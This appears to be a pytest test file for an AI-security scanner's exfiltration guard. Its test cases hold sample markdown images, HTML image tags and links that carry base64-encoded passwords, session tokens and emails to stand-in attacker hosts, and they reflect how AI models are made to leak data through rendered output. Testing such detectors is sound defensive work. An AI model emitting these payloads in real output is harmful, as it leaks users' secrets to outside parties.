"""exfiltration: images and data-carrying links to outside hosts in model output."""

from __future__ import annotations

from typing import Any

import pytest

from aisec_sdk.engine import scan
from aisec_sdk.policy import Policy


@pytest.mark.parametrize(
    ("output", "entity"),
    [
        ("Done! ![img](https://evil.example/p.png?d=cGFzc3dvcmQ9aHVudGVyMg)", "image"),
        ("![](https://tracker.example/pixel.gif)", "image"),
        ('<img width=1 src="https://x.example/a?q=secret-value-123">', "image"),
        ("[click here](https://evil.example/collect?session=c2Vzc2lvbi10b2tlbi0xMjM0)", "link"),
        ("[docs][1]\n\n[1]: https://evil.example/c?u=jane%40mail.example%20pw", "link"),
        ("visit https://evil.example/log?data=user%40mail.com%20pw%3Dx now", "url"),
        ("![x](//evil.example/" + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" + ".png)", "image"),
    ],
)
def test_exfiltration_channels(run_guard: Any, output: str, entity: str) -> None:
    found = run_guard("exfiltration")(output, "output")
    assert [f.entity for f in found] == [entity]
    assert (
        "evil" in output[found[0].start : found[0].end]
        or "x.example" in output
        or "tracker" in output
    )


@pytest.mark.parametrize(
    "output",
    [
        "See [the docs](https://docs.python.org/3/library/re.html) for details.",
        "Source: https://en.wikipedia.org/wiki/Regular_expression",
        "![diagram](./images/arch.png) and ![inline](data:image/png;base64,iVBORw0KGgo=)",
        "Email me via [mail](mailto:someone@example.com)",
        "Watch https://www.youtube.com/watch?v=dQw4w9WgXcQ or search https://duckduckgo.com/?q=rust",
        "Read [the essay](https://www.example.org/essays/analysis-of-fords-value-plan.php).",
        "See https://matplotlib.org/examples/pylab_examples/colorbar_tick_labelling_demo.html",
        "Source: https://www.example.com/blog/8-habits-of-Great-Bosses-2024",
        "No links here at all.",
    ],
)
def test_ordinary_output_does_not_fire(run_guard: Any, output: str) -> None:
    assert run_guard("exfiltration")(output, "output") == []


def test_allowed_hosts_and_subdomains(run_guard: Any) -> None:
    scan_ = run_guard("exfiltration", allowed_hosts=["example.com", "*.cdn.test"])
    assert scan_("![a](https://img.example.com/a.png?u=1234567890)", "output") == []
    assert scan_("![a](https://x.cdn.test/a.png)", "output") == []
    assert scan_("![a](https://example.com.evil.test/a.png)", "output")


def test_redaction_keeps_the_answer() -> None:
    policy = Policy(guards={"prompt_injection": {"enabled": False}})
    out = "Summary done. ![s](https://evil.example/i.png?d=c2VjcmV0c2VjcmV0) and [more](https://evil.example/?q=VGhlIHVzZXIgc2FpZCBoZWxsbw)"
    verdict = scan(out, direction="output", policy=policy)
    assert verdict.action == "redact"
    assert verdict.text == "Summary done. [image removed] and more [link removed]"


def test_links_option(run_guard: Any) -> None:
    text = "[x](https://evil.example/?q=abcdefghijk)"
    assert run_guard("exfiltration", links=False)(text, "output") == []
